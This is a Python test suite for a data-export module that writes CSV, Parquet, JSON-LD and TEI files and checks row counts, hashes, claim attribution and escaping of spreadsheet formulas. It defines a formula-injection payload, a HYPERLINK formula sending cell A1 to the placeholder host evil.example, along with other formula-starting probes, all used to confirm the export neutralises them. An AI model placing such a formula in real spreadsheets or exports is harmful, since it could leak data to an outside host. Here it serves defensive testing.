"""Exports are read by tools that know nothing of us: a wrong type, a formula or a lost row would go unnoticed."""

from __future__ import annotations

import csv
import hashlib
import json
import shutil
from pathlib import Path

import duckdb
import pyarrow.parquet as pq
import pytest
from frictionless import validate
from lxml import etree

from flows.report.export import FORMULA_FIRST, ExportError, csv_text, export, exported
from flows.report.jsonld import claim_jsonld
from flows.report.tei import TEI, XML_ID, document_tei, every_document

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"open")'


@pytest.fixture(scope="module")
def exported_samples(published: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("export") / "out"
    export(published, folder, with_tei=True)
    return folder


def test_frictionless_accepts_the_package(exported_samples: Path) -> None:
    """Archives check what they take in with this validator; types, keys, links between tables, hashes."""
    report = validate(str(exported_samples / "datapackage.json"))
    assert report.valid, report.flatten(["title", "rowNumber", "fieldName", "note"])[:10]
    assert len(report.tasks) >= 2 * len(exported())


def test_frictionless_notices_a_changed_row(exported_samples: Path, tmp_path: Path) -> None:
    """The description is not so loose that anything fits."""
    copy = Path(shutil.copytree(exported_samples, tmp_path / "out"))
    place = copy / "data" / "numeric_claims.csv"
    place.write_text(place.read_text("utf-8").replace(",money,", ",mony,"), "utf-8")
    package = json.loads((copy / "datapackage.json").read_text("utf-8"))
    package["resources"] = [r for r in package["resources"] if r["name"] == "numeric_claims"]
    package["resources"][0]["schema"].pop("foreignKeys")
    (copy / "datapackage.json").write_text(json.dumps(package), "utf-8")
    errors = validate(str(copy / "datapackage.json")).flatten(["type", "fieldName"])
    assert ["hash-count", None] in errors and ["constraint-error", "kind"] in errors


def test_parquet_and_csv_hold_every_row(exported_samples: Path, samples: duckdb.DuckDBPyConnection) -> None:
    for table in exported():
        (count,) = samples.execute(f"select count(*) from {table.table}").fetchone() or (None,)
        parquet = pq.read_table(exported_samples / "data" / f"{table.table}.parquet")
        with (exported_samples / "data" / f"{table.table}.csv").open(encoding="utf-8", newline="") as file:
            lines = sum(1 for _ in csv.DictReader(file))
        assert (parquet.num_rows, lines) == (count, count), table.table
        assert parquet.schema.names == table.column_names()


def test_no_text_cell_is_a_formula(own_copy: Path, tmp_path: Path) -> None:
    """A title from the web, opened in a spreadsheet by a fact-checker, must not run."""
    starts = ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", FORMULA]
    with duckdb.connect(str(own_copy)) as connection:
        connection.execute("update documents set title = list_extract(?, 1 + (hash(document_id) % 7)::int)", [starts])
        names = "list_extract($1, 1 + (hash(turn_id) % 7)::int)"
        people = ", ".join(f"{column} = {names}" for column in ("speaker_name", "label", "role", "organisation"))
        connection.execute(f"update turns set {people}", [starts])
        words = "list_extract($1, 1 + (hash(claim_id) % 7)::int)"
        connection.execute(f"update numeric_claims set quote = {words}, subject = {words}, attributed_to = {words}", [starts])
        connection.execute("update claim_series set subject = $1; ", [FORMULA])
    export(own_copy, tmp_path / "out")
    for sheet in (tmp_path / "out" / "data").glob("*.csv"):
        types = {c.name: c.sql_type for t in exported() if t.table == sheet.stem for c in t.columns()}
        with sheet.open(encoding="utf-8", newline="") as file:
            for row in csv.DictReader(file):
                assert [(k, v) for k, v in row.items() if types[k].startswith("varchar") and v[:1] in FORMULA_FIRST and v] == []
    with (tmp_path / "out" / "data" / "documents.csv").open(encoding="utf-8", newline="") as file:
        rows = list(csv.DictReader(file))
    written = {row["title"] for row in rows}
    assert len(written) > 3 and written <= {f"'{start}" for start in starts}
    kept = pq.read_table(tmp_path / "out" / "data" / "documents.parquet")["title"].to_pylist()
    assert {f"'{title}" for title in kept} == written


def test_sql_and_python_guard_alike() -> None:
    cases = ["=", "a=b", "", "-", "'=", "\n=", "+3", "\tx", "\r=1", "＝1", "＋1", "－1", "＠a", " =1", "é"]
    with duckdb.connect() as connection:
        from flows.report.export import csv_expression
        from schemas import Document

        (title,) = [c for c in Document.columns() if c.name == "title"]
        found = connection.execute(f"select {csv_expression(title)} from (select unnest(?) as title)", [cases]).fetchall()
    assert [row[0] for row in found] == [csv_text(case) for case in cases]


def test_licences_and_sources_are_named(exported_samples: Path) -> None:
    package = json.loads((exported_samples / "datapackage.json").read_text("utf-8"))
    assert package["licenses"] == [{"name": "Apache-2.0", "path": "https://spdx.org/licenses/Apache-2.0.html"}]
    assert package["sources"] == [{"title": "Sample transcripts, invented"}]
    assert "Apache-2.0" in (exported_samples / "LICENCES.md").read_text("utf-8")


def test_files_are_those_that_the_package_hashes(exported_samples: Path) -> None:
    package = json.loads((exported_samples / "datapackage.json").read_text("utf-8"))
    for resource in package["resources"]:
        data = (exported_samples / resource["path"]).read_bytes()
        assert resource["hash"] == f"sha256:{hashlib.sha256(data).hexdigest()}", resource["name"]


def test_nothing_of_the_users_is_overwritten(published: Path, tmp_path: Path) -> None:
    """A mistyped folder must not cost anyone their files; an earlier export is replaced."""
    (tmp_path / "mine").mkdir()
    (tmp_path / "mine" / "thesis.txt").write_text("years of work")
    with pytest.raises(ExportError, match="name another"):
        export(published, tmp_path / "mine")
    assert (tmp_path / "mine" / "thesis.txt").read_text() == "years of work"
    for _ in range(2):
        export(published, tmp_path / "out")
    assert sorted(path.name for path in tmp_path.iterdir()) == ["mine", "out"]


def test_claim_is_a_schema_org_claim(samples: duckdb.DuckDBPyConnection) -> None:
    """What a fact-checker wraps in a ClaimReview: words, speaker, day, page, figure."""
    row = samples.execute(
        "select claim_id from claims where surface = '600 million euros' and quote like 'The most important one%'"
    ).fetchone()
    claim = claim_jsonld(samples, row[0])
    assert claim["@type"] == "Claim" and "600 million euros" in claim["text"]
    assert claim["author"]["name"] == "Radomil Sarvek" and claim["dateCreated"] == "2025-06-05"
    assert claim["about"]["value"] == {"@type": "MonetaryAmount", "currency": "EUR", "value": 600e6}
    with pytest.raises(KeyError):
        claim_jsonld(samples, "no such claim")


def test_doubtful_speaker_is_no_author(samples: duckdb.DuckDBPyConnection) -> None:
    """The first promise holds in exports too: a doubt never becomes a name."""
    ids = samples.execute("select claim_id from claims where attribution_doubt is not null or speaker is null").fetchall()
    assert ids
    for (claim_id,) in ids[:5]:
        claim = claim_jsonld(samples, claim_id)
        assert "author" not in claim and "Speaker not certain" in claim["description"]


def test_tei_numbers_keep_their_digits_and_units_are_one_word(own_copy: Path) -> None:
    """50,512,345 must not come out as 5.05123e+07; where nobody is known there is no list of persons, which TEI wants filled."""
    with duckdb.connect(str(own_copy)) as connection:
        connection.execute("update numeric_claims set value = 50512345, unit = 'charging station' where value is not null")
        connection.execute("update turns set speaker_id = null, speaker_name = null")
        roots = [etree.fromstring(document_tei(connection, document_id)) for document_id in every_document(connection)]
    measures = [e for root in roots for e in root.iter(f"{{{TEI}}}measure") if e.get("quantity")]
    assert measures and {(e.get("quantity"), e.get("unit")) for e in measures} == {("50512345", "charging_station")}
    assert [e for root in roots for e in root.iter(f"{{{TEI}}}listPerson")] == []


def test_tei_holds_the_words_of_every_sentence(samples: duckdb.DuckDBPyConnection) -> None:
    """Marking up the claims must not lose or repeat a word."""
    for document_id in every_document(samples):
        root = etree.fromstring(document_tei(samples, document_id))
        written = {e.get(XML_ID): "".join(e.itertext()) for e in root.iter(f"{{{TEI}}}seg", f"{{{TEI}}}note") if e.get(XML_ID)}
        rows = samples.execute("select 'x' || sentence_id, text from sentences where document_id = ?", [document_id]).fetchall()
        assert written == dict(rows)
